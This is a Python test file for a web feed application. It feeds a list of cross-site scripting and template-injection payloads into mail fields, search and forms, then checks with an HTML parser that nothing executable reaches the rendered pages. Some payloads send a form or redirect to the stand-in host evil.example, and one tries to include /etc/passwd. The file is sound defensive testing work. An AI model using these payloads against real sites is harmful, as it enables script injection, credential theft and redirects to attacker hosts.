"""No word of a mail becomes part of a page: hostile text in every place that shows text."""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser

import httpx
import pytest

from adapters.types import File, Receipt

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "{{ 'sq' ~ 'uare' }}",
    "{% include '/etc/passwd' %}",
    "<style>*{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<form action=https://evil.example><input name=csrf></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=x></object>",
    "<embed src=x>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>]]>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<https://a.example/'onclick='alert(1)>",
    '[x](https://a.example "onclick=alert(1)")',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    'https://a.example/"onmouseover=alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><script>'>",
)
OURS = {"/feed/static/house.js"}
COMPUTED = "square"

Browse = Callable[..., httpx.Client]
Publish = Callable[..., Receipt]


class Danger(HTMLParser):
    """Collects what could run, load or send, as a browser would find it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One element of the page."""
        named = {name: value or "" for name, value in attrs}
        if tag == "script" and named.get("src") not in OURS:
            self.found.append("script")
        if tag in {"iframe", "object", "embed", "base", "style", "math"}:
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name in named if name.startswith("on") or name == "style"]
        for name in ("href", "src", "action"):
            target = named.get(name, "#").strip().lower()
            ours = target.startswith(("/feed/", "#", "?"))
            if not ours and not (tag == "a" and target.startswith("https://")):
                self.found.append(f"{tag} {name}={target}")
        if tag == "meta" and named.get("http-equiv"):
            self.found.append("meta")


def _dangers(page: str) -> list[str]:
    reader = Danger()
    reader.feed(page)
    return reader.found


def test_the_search_for_dangers_finds_them() -> None:
    """A test that cannot fail proves nothing."""
    for danger in (
        "<script>",
        "<img src=x>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<form action='//x'>",
    ):
        assert 1 == len(_dangers(danger))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_words_stay_words(browse: Browse, publish: Publish, payload: str) -> None:
    """Whatever a mail says, in whatever field, a page only shows it."""
    fields = {"text": payload, "author": payload, "author_address": payload, "audience_note": payload}
    files = (File(name=payload, media_type=payload, content=b"x"),)
    first = publish(**fields, files=files, title=payload)
    publish(**fields, files=files, title="", thread=first.thread)
    browser = browse()

    for path in ("/", "/g/ask-it", "/p/1", "/piece/1", "/search?q=a", "/g/ask-it?tab=waiting"):
        page = browser.get(f"/feed{path}")
        assert 200 == page.status_code
        assert [] == _dangers(page.text)
        assert COMPUTED not in page.text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_words_in_a_search_or_form_stay_words(browse: Browse, payload: str) -> None:
    """What a link puts into the address must not run either."""
    browser = browse()
    found = browser.get("/feed/search", params={"q": payload})
    form = browser.post(
        "/feed/g/ask-it/new",
        data={
            "csrf": "a-token-of-this-browser",
            "title": payload,
            "text": "",
            "kind": payload,
            "once": payload,
        },
    )

    assert (200, 422) == (found.status_code, form.status_code)
    assert [] == _dangers(found.text) + _dangers(form.text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_viewer_name_stays_a_name(browse: Browse, publish: Publish, payload: str) -> None:
    """Names come from a directory that others fill."""
    publish()
    name = payload.replace("\x00", "").replace("\n", " ")

    assert [] == _dangers(browse(name).get("/feed/").text)
